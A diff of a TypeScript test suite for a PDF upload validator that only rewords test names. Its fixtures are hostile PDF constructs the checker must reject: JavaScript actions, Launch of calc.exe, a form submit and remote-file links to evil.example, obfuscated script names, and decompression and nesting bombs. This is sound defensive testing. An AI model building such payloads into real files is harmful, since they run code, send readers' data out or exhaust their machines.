@@ -47,14 +47,14 @@ const zeros = (megabytes: number) => deflateSync(Buffer.alloc(megabytes * 1024 *
 const flate = '/Filter /FlateDecode';
 const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
 
-describe('what is kept', () => {
+describe('accepted files', () => {
   test.runIf(withAll)('a file of LibreOffice', async () => expect(await check(fromOffice())).toBeNull(), 120_000);
   test.each<[string, Buffer]>([
     ['a page', makePdf()],
     ['with its objects in a packed stream', makePackedPdf()],
     ['a link to an address', makePdf({ page: link('<< /S /URI /URI (https://acme.example) >>') })],
     [
-      'one whose action stands elsewhere',
+      'one whose action is elsewhere in the file',
       makePdf({ page: link('6 0 R'), more: ['<< /S /URI /URI (mailto:asha@mail.example) >>'] }),
     ],
     ['opened at a page', makePdf({ catalog: '/OpenAction [3 0 R /XYZ null null 1]' })],
@@ -65,29 +65,29 @@ describe('what is kept', () => {
       makePdf({ trailer: '/Info << /Title (/JS \\(1\\) /OpenAction << /S /JavaScript >>) >>' }),
     ],
     [
-      'a page in the way of ReportLab',
+      'a page in the manner of ReportLab',
       makePdf({ content: pdfStream('Gap@@~>', '/Filter [/ASCII85Decode /FlateDecode]') }),
     ],
     ['fifty pages', makePdf(manyPages(50))],
     ['line ends before the header', Buffer.concat([Buffer.from('\r\n\r\n'), makePdf()])],
-    ['what a printer wrote before it', Buffer.concat([Buffer.from('\x1b%-12345X@PJL JOB\r\n'), makePdf()])],
+    ['what a printer wrote before the header', Buffer.concat([Buffer.from('\x1b%-12345X@PJL JOB\r\n'), makePdf()])],
     ['1,019 bytes before the header', Buffer.concat([Buffer.alloc(1019, 0x20), makePdf()])],
-    ['bytes behind its end', Buffer.concat([makePdf(), Buffer.alloc(1000)])],
+    ['bytes after its end', Buffer.concat([makePdf(), Buffer.alloc(1000)])],
   ])('%s', async (_, content) => expect(await check(content)).toBeNull());
 });
 
-describe('what is not a PDF, or not only one', () => {
+describe('files that are not a PDF, or not only one', () => {
   const archive = Buffer.concat([Buffer.from('PK\x03\x04rest of an archive PK\x05\x06'), Buffer.alloc(18)]);
   test.each<[string, Buffer | string]>([
     ['nothing', ''],
     ['an archive', archive],
     ['a page of HTML', '<!doctype html><script>alert(1)</script>%PDF-1.7'],
-    ['a header behind something else', Buffer.concat([Buffer.from('GIF89a;'), makePdf()])],
-    ['an archive behind a PDF', Buffer.concat([makePdf(), archive])],
+    ['a header after something else', Buffer.concat([Buffer.from('GIF89a;'), makePdf()])],
+    ['an archive after a PDF', Buffer.concat([makePdf(), archive])],
     ['1,020 bytes before the header', Buffer.concat([Buffer.alloc(1020, 0x20), makePdf()])],
-    ['a page of HTML before it', Buffer.concat([Buffer.from('hello <script>alert(1)</script>'), makePdf()])],
-    ['a picture before it', Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\rIHDR', 'latin1'), makePdf()])],
-    ['1,030 bytes behind its end', Buffer.concat([makePdf(), Buffer.alloc(1030)])],
+    ['a page of HTML before the header', Buffer.concat([Buffer.from('hello <script>alert(1)</script>'), makePdf()])],
+    ['a picture before the header', Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\rIHDR', 'latin1'), makePdf()])],
+    ['1,030 bytes after its end', Buffer.concat([makePdf(), Buffer.alloc(1030)])],
     ['a header alone', '%PDF-1.7\n%%EOF\n'],
     ['half of a file', makePdf().subarray(0, 500)],
     [
@@ -100,11 +100,11 @@ describe('what is not a PDF, or not only one', () => {
   ])('%s', async (_, content) => expect(await check(content)).toBe(notPdf));
   test.runIf(withAll).each([
     [
-      'a password to open',
+      'a password to open it',
       option('EncryptFile', 'boolean', 'true') + ',' + option('DocumentOpenPassword', 'string', 'secret'),
     ],
     [
-      'protection without one',
+      'protection without a password',
       option('RestrictPermissions', 'boolean', 'true') + ',' + option('PermissionPassword', 'string', 'secret'),
     ],
   ])(
@@ -118,14 +118,14 @@ describe('what is not a PDF, or not only one', () => {
   );
 });
 
-describe('what is protected, or draws too much', () => {
+describe('files that are protected, or draw too much', () => {
   test.each([
     [
       'a password',
       makePdf({ trailer: '/Encrypt << /Filter /Standard /V 2 /R 3 /P -4 /O (a) /U (b) >>' }),
       protectedPdf,
     ],
-    // 1.1 kB that take a browser 3.5 GB.
+    // 1.1 kB for which a browser takes 3.5 GB.
     [
       'forms that draw the next one ten times, ten deep',
       makePdf(nestedForms(Array.from({ length: 10 }, () => 10))),
@@ -136,13 +136,13 @@ describe('what is protected, or draws too much', () => {
   ])('%s', async (_, content, message) => expect(await check(content)).toBe(message));
 });
 
-describe('what acts', () => {
+describe('files that act', () => {
   const acting: [string, Parameters<typeof makePdf>[0]][] = [
     ['a script of the document', { catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` }],
     ['a script when it opens', { catalog: `/OpenAction ${script}` }],
     ['the same elsewhere', { catalog: '/OpenAction 6 0 R', more: [script] }],
     [
-      'with its kind elsewhere',
+      'a script with its kind elsewhere',
       { catalog: '/OpenAction 6 0 R', more: ['<< /S 7 0 R /D [3 0 R /Fit] >>', '/JavaScript'] },
     ],
     ['with its name in escapes', { page: link('<< /S /J#61vaScript /#4aS (x) >>') }],
@@ -157,7 +157,7 @@ describe('what acts', () => {
     ['a program', { page: link('<< /S /Launch /F (calc.exe) >>') }],
     ['a program when it opens', { catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' }],
     ['a form that is sent', { page: link('<< /S /SubmitForm /F (https://evil.example) >>') }],
-    ['data that is taken in', { page: link('<< /S /ImportData /F (a.fdf) >>') }],
+    ['data that is imported', { page: link('<< /S /ImportData /F (a.fdf) >>') }],
     ['another file', { page: link('<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>') }],
     ['an address when it opens', { catalog: '/OpenAction << /S /URI /URI (https://evil.example) >>' }],
     ['an address when a page opens', { page: '/AA << /O << /S /URI /URI (https://evil.example) >> >>' }],
@@ -165,7 +165,10 @@ describe('what acts', () => {
       'an address of a field',
       { page: '/Annots [<< /Subtype /Widget /A << /S /URI /URI (https://evil.example) >> >>]' },
     ],
-    ['an address behind a place', { page: link('<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /Print >> >>') }],
+    [
+      'a print command behind a place',
+      { page: link('<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /Print >> >>') },
+    ],
     ['a script as an address', { page: link('<< /S /URI /URI (java\\163cript:alert\\(1\\)) >>') }],
     [
       'a file within it',
@@ -176,7 +179,7 @@ describe('what acts', () => {
     ['a form of XFA', { catalog: '/AcroForm << /Fields [] /XFA [(template) 4 0 R] >>' }],
   ];
   test.each(acting)('%s', async (_, parts) => expect(await check(makePdf(parts))).toBe(notPdf));
-  test.runIf(withAll).each(acting)('%s, packed', async (_, parts) =>
+  test.runIf(withAll).each(acting)('%s, compressed', async (_, parts) =>
     expect(await check(makePackedPdf(parts))).toBe(notPdf),
   );
   test.each<[string, Buffer]>([
@@ -188,19 +191,19 @@ describe('what acts', () => {
       ),
     ],
     [
-      'with a comment in its number',
+      'an object with a comment in its number',
       makePdf({ catalog: '/OpenAction 9 0 R', content: `${pdfStream('')}\nendobj\n9 %\n0 obj ${script}` }),
     ],
     ['within the bytes of a page', makePdf({ content: pdfStream(`9 0 obj ${script} endobj`) })],
     [
-      'in objects packed in another way',
+      'in objects compressed in another way',
       makePackedPdf({ page: link(script) }, '/DecodeParms << /Predictor 12 /Columns 4 >>'),
     ],
-    ['in objects of which readers see two filters', makePackedPdf({ page: link(script) }, '/Filter /ASCIIHexDecode')],
+    ['in objects for which readers see two filters', makePackedPdf({ page: link(script) }, '/Filter /ASCIIHexDecode')],
   ])('a script %s', async (_, content) => expect(await check(content)).toBe(notPdf));
 });
 
-describe.runIf(withAll)('what costs', () => {
+describe.runIf(withAll)('expensive files', () => {
   test.each<[string, () => Buffer, string]>([
     ['51 pages', () => makePdf(manyPages(51)), tooManyPages],
     ['20,000 pages, packed', () => makePackedPdf(manyPages(20_000)), tooManyPages],
@@ -209,9 +212,9 @@ describe.runIf(withAll)('what costs', () => {
       () => makePdf({ pages: `<< /Type /Pages /Count 100000 /Kids [${'3 0 R '.repeat(100_000)}] >>` }),
       tooManyPages,
     ],
-    ['pages that hold themselves', () => makePdf({ pages: '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' }), notPdf],
+    ['pages that contain themselves', () => makePdf({ pages: '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' }), notPdf],
     [
-      'pages in one another',
+      'nested pages',
       () =>
         makePdf({
           pages: '<< /Type /Pages /Kids [6 0 R] /Count 1 >>',
@@ -219,7 +222,7 @@ describe.runIf(withAll)('what costs', () => {
         }),
       notPdf,
     ],
-    ['arrays in one another', () => makePdf({ catalog: `/Deep ${'['.repeat(500_000)}` }), notPdf],
+    ['nested arrays', () => makePdf({ catalog: `/Deep ${'['.repeat(500_000)}` }), notPdf],
     ['a page of 200 MB', () => makePdf({ content: pdfStream(zeros(200), flate) }), notPdf],
     [
       'packed twice',
@@ -227,7 +230,7 @@ describe.runIf(withAll)('what costs', () => {
       notPdf,
     ],
     [
-      'packed with a false beginning',
+      'compressed data with a false beginning',
       () =>
         makePdf({
           content: pdfStream(Buffer.concat([Buffer.from('\xf8\x00', 'latin1'), zeros(200).subarray(2)]), flate),
@@ -241,7 +244,7 @@ describe.runIf(withAll)('what costs', () => {
     ],
     ['objects of 64 MB', () => makePackedPdf({ catalog: `/X (${' '.repeat(64 * 1024 * 1024)})` }), notPdf],
     ['objects that fill the memory', () => makePackedPdf({ catalog: `/X [${'<<>>'.repeat(3_900_000)}]` }), notPdf],
-    ['more values than anybody writes', () => makePackedPdf({ catalog: `/X [${'[]'.repeat(500_000)}]` }), notPdf],
+    ['more values than an ordinary file has', () => makePackedPdf({ catalog: `/X [${'[]'.repeat(500_000)}]` }), notPdf],
     ['objects within objects', () => makePdf({ more: ['(1 0 obj '.repeat(400_000)] }), notPdf],
   ])('%s', async (_, content, expected) => expect(await check(content())).toBe(expected));
 
@@ -255,21 +258,21 @@ describe.runIf(withAll)('what costs', () => {
       return checked;
     };
 
-    test('may take just under a minute: the file is as good as on an idle one', async () =>
+    test('may take just under a minute: the result is the same as on an idle one', async () =>
       expect(await after(59_999)).toBeNull());
 
-    test('that takes a minute says that it is the machine, and not the file', async () =>
+    test('that takes a minute reports the machine, and not the file', async () =>
       expect(after(60_000)).rejects.toMatchObject({ kind: 'unavailable', message: generalMessages.unavailable }));
   });
 
-  test('a stream that claims to be endless ends where the file does', async () => {
+  test('a stream that claims to be endless ends with the file', async () => {
     const content = makePdf()
       .toString('latin1')
       .replace(/\/Length \d+/, '/Length 9999999999');
     expect([null, notPdf]).toContain(await check(content));
   });
 
-  test('fifty at once: two threads, bounded memory, and the process goes on meanwhile', async () => {
+  test('fifty at once: two threads, bounded memory, and the process keeps running meanwhile', async () => {
     const threads = () => Number(/Threads:\s+(\d+)/.exec(readFileSync('/proc/self/status', 'utf8'))?.[1]);
     const kinds = [
       makePdf(),
